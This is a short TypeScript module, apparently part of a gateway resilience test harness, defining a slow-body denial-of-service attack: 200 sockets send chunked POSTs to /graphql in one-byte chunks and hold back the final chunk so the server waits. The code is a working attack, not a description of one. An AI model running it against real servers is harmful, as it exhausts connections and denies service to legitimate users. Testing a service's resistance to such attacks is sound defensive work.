/** Bodies in chunks of one byte, as many at once as an attacker has sockets, none of them ever whole. */
import { once } from 'node:events';
import type { Attack } from '../attack.ts';
import { keepBusy, openConnection } from '../target.ts';

const SOCKETS = 200;
const BODY_BYTES = 250_000;
const HEAD =
  'POST /graphql HTTP/1.1\r\nHost: gateway\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n';
const CHUNKS = Buffer.from('1\r\n \r\n'.repeat(5_000));

export const attack: Attack = {
  sends: 'bodies in chunks of one byte on 200 sockets, without credentials',
  strike: (target) =>
    keepBusy(SOCKETS, async () => {
      const socket = await openConnection(target).catch(() => null);
      if (!socket) return;
      socket.resume().write(HEAD);
      for (let sent = 0; sent < BODY_BYTES && !socket.destroyed; sent += CHUNKS.length / 6) {
        // A connection that the gateway resets while it is written to has an end like any other.
        if (!socket.write(CHUNKS))
          await Promise.race([once(socket, 'drain'), once(socket, 'close')]).catch(() => undefined);
      }
      // Whole but for the last chunk: it is kept until the server gives up on it.
      await new Promise((resolve) => setTimeout(resolve, 5_000));
      socket.destroy();
    }),
};
